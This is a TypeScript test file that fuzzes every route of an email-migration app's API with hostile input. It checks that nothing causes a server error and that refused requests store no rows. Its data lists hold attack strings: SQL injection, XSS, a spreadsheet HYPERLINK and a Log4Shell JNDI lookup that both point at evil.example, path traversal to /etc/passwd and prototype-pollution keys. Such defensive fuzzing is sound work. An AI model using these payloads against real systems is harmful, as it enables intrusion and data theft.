import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { type DatabaseHandle, openDatabase } from '../../src/db/database.ts';
import { type JobQueue, startJobQueue } from '../../src/db/job-queue.ts';
import { buildTestApp, recordingMailer } from '../support/build-test-app.ts';
import { createTestDatabase, type TestDatabase } from '../support/test-database.ts';
import { createWorkgroupWithAgents, type SignedInAgent } from './msp-fixtures.ts';
import { createProjectThroughApi } from './project-fixtures.ts';

/**
 * Hostile values in every field of every route that takes input, routes read from the app's own
 * OpenAPI document so that a new route is covered without a line here. Whatever comes in: never a
 * 5xx, and a refused request stores nothing (row counts of every table unchanged).
 */

type Schema = {
  type?: string | string[];
  format?: string;
  enum?: unknown[];
  const?: unknown;
  pattern?: string;
  minimum?: number;
  minItems?: number;
  minLength?: number;
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  anyOf?: Schema[];
  oneOf?: Schema[];
  default?: unknown;
};
type Operation = {
  responses?: Record<string, { content?: Record<string, unknown> }>;
  parameters?: { in: 'path' | 'query' | 'header'; name: string; schema?: Schema }[];
  requestBody?: { content?: Record<string, { schema?: Schema }> };
};
type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';

let database: TestDatabase;
let queue: JobQueue;
let owner: DatabaseHandle | undefined;
let app: Awaited<ReturnType<typeof buildTestApp>>['app'];
let admin: SignedInAgent;
let spare: SignedInAgent;
const ids: Record<string, string> = {};

/** A seeded generator: the same run every time, so a failure can be replayed. */
function random(seed: number) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Text no boundary may take: the guard must refuse every one of these with a 4xx. */
const REFUSED_TEXT = [
  'a\u0000b',
  '\u0000',
  'alice\u0000@contoso.com',
  '\ud800',
  'x\udfff',
  '\udc00\ud800',
  'ok\ud83d',
  '\ud800@contoso.com',
  '\u0001',
  '\u001b[31mred',
  'bell\u0007',
  'back\u0008space',
];

const LONG = ['a'.repeat(100_001), 'é'.repeat(150_000), '😀'.repeat(60_000)];

/** Text a request may carry or be refused for, but that must never break the server. */
const ODD_TEXT = [
  'İ',
  'İSTANBUL@contoso.com',
  'i\u0307stanbul@contoso.com',
  'ß',
  'STRAẞE@contoso.com',
  'ΟΔΟΣ@contoso.com',
  'οδος@contoso.com',
  'ａｌｉｃｅ@ｃｏｎｔｏｓｏ.com',
  '😀',
  '👩‍👩‍👧‍👦@contoso.com',
  '\u202eexe.txt',
  'abc\u202e@contoso.com',
  '\u200b',
  '\ufeffbom',
  '\ufffd',
  "'; drop table agents; --",
  "' or '1'='1",
  'x" or 1=1 --',
  'a%\\_b',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","click")',
  '+1+1',
  '-1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  'a\r\nb',
  '\n',
  ' ',
  '',
  '%00',
  '\\u0000',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return 1")()}}',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '1e309',
  '0x10',
  '-0',
  '2026-02-30T25:61:00Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'admin@zimbra.test',
  'user@localhost',
  'a@b.c',
  `${'a'.repeat(70)}@${'b'.repeat(250)}.com`,
  'x'.repeat(256),
  'x'.repeat(5_000),
  'x'.repeat(20_001),
];

const NOT_TEXT: unknown[] = [
  123,
  -1,
  0,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  true,
  false,
  null,
  [],
  {},
  ['a'],
  [null],
  { $gt: '' },
  { toString: 'x' },
  [[[]]],
  Array.from({ length: 20_001 }, () => 'x'),
  Array.from({ length: 200 }, () => ({ a: 'b' })),
  nested(100),
];

function nested(depth: number): unknown {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/** Random text from the characters that break things most: NUL, surrogates, quotes, controls, RTL. */
function randomHostile(next: () => number): string {
  const pieces = [
    '\u0000',
    '\ud800',
    '\udfff',
    '\ud83d\ude00',
    '\u202e',
    '"',
    "'",
    ',',
    ';',
    '\\',
    '%',
    '_',
    '\r\n',
    '\t',
    '\u001f',
    'İ',
    'ς',
    'ß',
    'Ａ',
    '@',
    '.',
    'a',
    'Z',
    '0',
    '<',
    '>',
    '=',
  ];
  let text = '';
  const length = 1 + Math.floor(next() * 24);
  for (let i = 0; i < length; i++) text += pieces[Math.floor(next() * pieces.length)];
  return text;
}

const BATCH = 8;
const next = random(12);
const RANDOM_TEXT = Array.from({ length: 30 }, () => randomHostile(next));
const ALWAYS: unknown[] = [...REFUSED_TEXT, ...LONG, ...NOT_TEXT];
const ROTATING: unknown[] = [...ODD_TEXT, ...RANDOM_TEXT];
const ROTATING_PER_FIELD = 18;
let rotation = 0;

/** The values one field gets: every one that must be refused, and a share of the rest (each field a different share). */
function hostileValues(): unknown[] {
  const start = (rotation++ * ROTATING_PER_FIELD) % ROTATING.length;
  const share = [...ROTATING, ...ROTATING].slice(start, start + ROTATING_PER_FIELD);
  return [...ALWAYS, ...share];
}

/** Values the routes take, by field name, so that one hostile field reaches the code behind the others. */
function goodValue(name: string, schema: Schema, n: number): unknown {
  const known: Record<string, () => unknown> = {
    email: () => `fuzz${n}@contoso.com`,
    source: () => `fuzz${n}@zimbra.test`,
    destination: () => `fuzz${n}@contoso.com`,
    overrideAddress: () => admin.agent.email,
    customerId: () => ids.customer,
    sourceEndpointId: () => ids.source,
    destinationEndpointId: () => ids.destination,
    mailboxIds: () => [ids.mailbox],
    customerUserIds: () => [ids.customerUser],
    primaryDomain: () => 'contoso.com',
    serverUrl: () => 'https://mail.zimbra.test',
    applicationId: () => '1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d',
    tenantId: () => 'contoso.onmicrosoft.com',
    migrationAt: () => '2030-01-01T09:00:00Z',
    scheduledAt: () => '2030-01-01T09:00:00Z',
    timeZone: () => 'Europe/Paris',
    csv: () => `bulk${n}@zimbra.test,bulk${n}@contoso.com`,
    template: () => 'Hello {{firstName}}',
    body: () => 'Hello {{firstName}}',
    password: () => 'Correct-Horse-Battery-9!',
    quantity: () => 1,
  };
  if (known[name] !== undefined) return known[name]();
  return fromSchema(schema, n);
}

function fromSchema(schema: Schema, n: number): unknown {
  const branch = schema.oneOf?.[0] ?? schema.anyOf?.find((s) => s.type !== 'null');
  if (branch !== undefined) return fromSchema(branch, n);
  if (schema.const !== undefined) return schema.const;
  if (schema.enum !== undefined) return schema.enum[0];
  if (schema.default !== undefined) return schema.default;
  const type = Array.isArray(schema.type) ? schema.type.find((t) => t !== 'null') : schema.type;
  switch (type) {
    case 'integer':
    case 'number':
      return Math.max(schema.minimum ?? 1, 1);
    case 'boolean':
      return true;
    case 'array':
      return Array.from({ length: schema.minItems ?? 1 }, () => fromSchema(schema.items ?? {}, n));
    case 'object':
      return Object.fromEntries(
        (schema.required ?? []).map((key) => [key, goodValue(key, schema.properties?.[key] ?? {}, n)]),
      );
    case 'string':
    case 'null':
    case undefined:
      if (schema.format === 'uuid') return ids.project;
      if (schema.format === 'email') return `fuzz${n}@contoso.com`;
      if (schema.format === 'date-time') return '2030-01-01T09:00:00Z';
      if (schema.format === 'uri') return 'https://example.com';
      return `Fuzz ${n}`;
  }
}

/** The body shapes a route takes: each branch of a union body is one shape. */
function bodyShapes(schema: Schema | undefined): Schema[] {
  if (schema === undefined) return [];
  if (schema.oneOf !== undefined || schema.anyOf !== undefined)
    return [...(schema.oneOf ?? []), ...(schema.anyOf ?? [])].filter((s) => s.properties !== undefined);
  return schema.properties === undefined ? [] : [schema];
}

/** Percent-encoding that also carries lone surrogates (as the bytes of their code unit), which encodeURIComponent refuses. */
function encodeAny(text: string): string {
  return text.replace(/[\s\S]/gu, (char) => {
    const code = char.charCodeAt(0);
    if (char.length === 1 && code >= 0xd800 && code <= 0xdfff)
      return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    return encodeURIComponent(char);
  });
}

/** A real id for each path parameter, by the collection it names. */
function pathFor(path: string, override?: { name: string; value: string }): string {
  return path.replace(/\{(\w+)\}/g, (_, name: string, offset: number) => {
    if (override?.name === name) return encodeAny(override.value);
    const collection = path.slice(0, offset).split('/').filter(Boolean).at(-1) ?? '';
    const byName: Record<string, string | undefined> = {
      userId: ids.customerUser,
      mailboxId: ids.mailbox,
      id: {
        tokens: ids.token,
        agents: spare.agent.id,
        invitations: ids.invitation,
        customers: ids.customer,
        orders: ids.order,
        endpoints: ids.source,
        projects: ids.project,
      }[collection],
    };
    const id = byName[name];
    if (id === undefined)
      throw new Error(`No fixture for {${name}} in ${path}: add one to hostile-input.test.ts`);
    return id;
  });
}

interface Attempt {
  readonly method: Method;
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly payload?: string | Buffer | object;
  readonly what: string;
  /** The guard must refuse it, whatever the field. */
  readonly mustRefuse: boolean;
}

const describeValue = (value: unknown) => {
  const text = typeof value === 'string' ? value : (JSON.stringify(value) ?? String(value));
  return JSON.stringify(text.length > 40 ? `${text.slice(0, 40)}…(${text.length})` : text);
};

function attemptsFor(path: string, method: Method, operation: Operation, n: () => number): Attempt[] {
  // A server-sent event stream (no documented body) stays open as long as asked: nothing to wait for here.
  if (method === 'GET' && operation.responses?.['200']?.content === undefined) return [];
  const auth = { authorization: admin.headers.authorization };
  const attempts: Attempt[] = [];
  const params = operation.parameters ?? [];
  const query = params.filter((p) => p.in === 'query');
  const bodySchema = operation.requestBody?.content?.['application/json']?.schema;
  const shapes = bodyShapes(bodySchema);
  const baseBody = (shape: Schema) =>
    fromSchema({ ...shape, type: 'object' }, n()) as Record<string, unknown>;
  const url = pathFor(path);
  const refused = (value: unknown) => typeof value === 'string' && REFUSED_TEXT.includes(value);
  // A URL cannot carry a lone surrogate: its bytes arrive as U+FFFD, which is valid text.
  const refusedInUrl = (value: unknown) => refused(value) && (value as string).isWellFormed();

  for (const param of params.filter((p) => p.in === 'path')) {
    for (const value of hostileValues()) {
      if (typeof value !== 'string') continue;
      attempts.push({
        method,
        url: pathFor(path, { name: param.name, value }),
        headers: auth,
        ...(shapes[0] === undefined ? {} : { payload: baseBody(shapes[0]) }),
        what: `path {${param.name}} = ${describeValue(value)}`,
        mustRefuse: true,
      });
    }
  }
  for (const param of query) {
    for (const value of hostileValues()) {
      const values = Array.isArray(value) ? value.slice(0, 50) : [value];
      const search = values
        .map((v) => `${param.name}=${encodeAny(typeof v === 'string' ? v : JSON.stringify(v))}`)
        .join('&');
      attempts.push({
        method,
        url: `${url}?${search}`,
        headers: auth,
        what: `query ${param.name} = ${describeValue(value)}`,
        mustRefuse: refusedInUrl(value),
      });
    }
  }
  for (const shape of shapes) {
    for (const field of Object.keys(shape.properties!)) {
      for (const value of hostileValues()) {
        const body = { ...baseBody(shape), [field]: value };
        attempts.push({
          method,
          url,
          headers: auth,
          payload: body,
          what: `body ${field} = ${describeValue(value)}`,
          mustRefuse: refused(value),
        });
        // The same value one level down, where a list of strings or an object is expected.
        if (typeof value === 'string' && shape.properties![field]!.type === 'array')
          attempts.push({
            method,
            url,
            headers: auth,
            payload: { ...baseBody(shape), [field]: [value] },
            what: `body ${field}[0] = ${describeValue(value)}`,
            mustRefuse: refused(value),
          });
      }
    }
  }
  if (bodySchema !== undefined) {
    const json = { 'content-type': 'application/json', ...auth };
    const raw = (what: string, payload: string | Buffer, headers = json): Attempt => ({
      method,
      url,
      headers,
      payload,
      what: `raw body: ${what}`,
      mustRefuse: true,
    });
    const valid = shapes[0] === undefined ? {} : baseBody(shapes[0]);
    const text = JSON.stringify(valid);
    attempts.push(
      raw(
        'invalid UTF-8 (0xff)',
        Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]),
      ),
      raw(
        'overlong UTF-8 NUL (0xc0 0x80)',
        Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc0, 0x80, 0x22, 0x7d]),
      ),
      raw(
        'UTF-8 encoded surrogate',
        Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d]),
      ),
      raw('NUL byte inside a string', Buffer.from('{"name":"a\u0000b"}')),
      raw('__proto__ key', `{"__proto__":{"admin":true},${text.slice(1)}`),
      raw('constructor.prototype key', `{"constructor":{"prototype":{"admin":true}},${text.slice(1)}`),
      raw('truncated JSON', text.slice(0, Math.max(1, text.length - 2))),
      raw('not JSON', 'source,destination\na@b.c,d@e.f'),
      raw('empty', ''),
      raw(`${'['.repeat(5000)}`.slice(0, 20), '['.repeat(5000) + ']'.repeat(5000)),
      raw('text/plain', text, { 'content-type': 'text/plain', ...auth }),
      raw('text/csv', 'a@b.c,d@e.f', { 'content-type': 'text/csv', ...auth }),
      raw('form', 'name=x&email=y', { 'content-type': 'application/x-www-form-urlencoded', ...auth }),
      raw('multipart', '--x\r\n\r\n--x--', { 'content-type': 'multipart/form-data; boundary=x', ...auth }),
      raw('xml', '<a>b</a>', { 'content-type': 'application/xml', ...auth }),
    );
  }
  return attempts;
}

/**
 * Rows inserted or deleted in committed transactions, counted by a row trigger on every table:
 * a transaction that is rolled back leaves the count as it was, as a refused request must.
 */
async function countRowChanges(): Promise<void> {
  // Test plumbing as the owner role: the app role Ferry runs as may not create tables or triggers.
  // The trigger function runs as its owner, so the app role's writes are counted too.
  owner = openDatabase(database.ownerUrl, { maxConnections: 1 });
  await sql`
    create table fuzz_row_changes (n bigint not null);
    insert into fuzz_row_changes values (0);
    create function fuzz_count_row_change() returns trigger language plpgsql security definer as $$
      begin update public.fuzz_row_changes set n = n + 1; return null; end $$;
  `.execute(owner.db);
  const { rows } = await sql<{ name: string }>`
    select format('%I.%I', schemaname, relname) as name from pg_stat_user_tables
    where relname <> 'fuzz_row_changes'
  `.execute(owner.db);
  for (const { name } of rows)
    await sql`
      create trigger fuzz_row_change after insert or delete on ${sql.raw(name)}
      for each row execute function fuzz_count_row_change()
    `.execute(owner.db);
}

async function rowChanges(): Promise<string> {
  const { rows } = await sql<{ n: string }>`select n from fuzz_row_changes`.execute(owner!.db);
  return rows[0]!.n;
}

beforeAll(async () => {
  database = await createTestDatabase();
  await countRowChanges();
  queue = await startJobQueue({ url: database.url, supervise: false, onError: () => undefined });
  ({ app } = await buildTestApp(database.db, { mailer: recordingMailer(), queue }));
  const workgroup = await createWorkgroupWithAgents(database.db, 'Hostile MSP');
  admin = workgroup.administrator;
  spare = workgroup.agent;
  const fixture = await createProjectThroughApi(app, admin.headers);
  const post = fixture.post;
  ids.customer = fixture.customerId;
  ids.customerUser = fixture.customerUserId;
  ids.source = fixture.sourceEndpointId;
  ids.destination = fixture.destinationEndpointId;
  ids.project = fixture.projectId;
  ids.mailbox = fixture.mailboxId;
  ids.invitation = (await post('/api/agents/invitations', { email: 'new@contoso.com', role: 'agent' }))
    .id as string;
  ids.order = (await post('/api/licenses/orders', { quantity: 100, paymentMethod: 'wire' })).id as string;
  ids.token = ((await post('/api/tokens', { name: 'fuzz' })).token as { id: string }).id;
});

afterAll(async () => {
  await owner?.close();
  await app?.close();
  await queue?.stop();
  await database?.close();
});

describe('hostile input', () => {
  it('never gets a 5xx, and a refused request stores nothing', { timeout: 600_000 }, async () => {
    const document = (await app.inject({ method: 'GET', url: '/api/openapi.json' })).json<{
      paths: Record<string, Record<string, Operation>>;
    }>();
    let counter = 0;
    const attempts = Object.entries(document.paths).flatMap(([path, operations]) =>
      Object.entries(operations).flatMap(([method, operation]) =>
        attemptsFor(path, method.toUpperCase() as Method, operation, () => counter++),
      ),
    );
    expect(attempts.length).toBeGreaterThanOrEqual(10_000);

    const serverErrors: string[] = [];
    const stored: string[] = [];
    const accepted: string[] = [];
    const send = (attempt: Attempt) =>
      app.inject({
        method: attempt.method,
        url: attempt.url,
        headers: attempt.headers,
        ...(attempt.payload === undefined ? {} : { payload: attempt.payload }),
      });
    const label = (attempt: Attempt, status: number) =>
      `${status} ${attempt.method} ${attempt.url.split('?')[0]!.slice(0, 80)} ${attempt.what}`;
    // A few at a time; when every one of a batch was refused, the batch must have stored nothing.
    // A batch with a taken request runs its refused ones again, one by one, each checked alone.
    for (let start = 0; start < attempts.length; start += BATCH) {
      const batch = attempts.slice(start, start + BATCH);
      const before = await rowChanges();
      const responses = await Promise.all(batch.map(send));
      const after = await rowChanges();
      responses.forEach((response, i) => {
        const attempt = batch[i]!;
        if (response.statusCode >= 500)
          serverErrors.push(`${label(attempt, response.statusCode)}: ${response.body.slice(0, 200)}`);
        else if (attempt.mustRefuse && response.statusCode < 400)
          accepted.push(label(attempt, response.statusCode));
      });
      if (after === before) continue;
      if (responses.every((r) => r.statusCode >= 400)) {
        stored.push(`one of ${batch.map((a, i) => label(a, responses[i]!.statusCode)).join(' | ')}`);
        continue;
      }
      for (const [i, attempt] of batch.entries()) {
        if (responses[i]!.statusCode < 400) continue;
        const alone = await rowChanges();
        const again = await send(attempt);
        if (again.statusCode >= 400 && (await rowChanges()) !== alone)
          stored.push(label(attempt, again.statusCode));
      }
    }
    expect(serverErrors.slice(0, 30), `${serverErrors.length} of ${attempts.length} got a 5xx`).toEqual([]);
    expect(stored.slice(0, 30), `${stored.length} refused requests stored rows`).toEqual([]);
    expect(accepted.slice(0, 30), `${accepted.length} invalid requests were taken`).toEqual([]);
  });
});
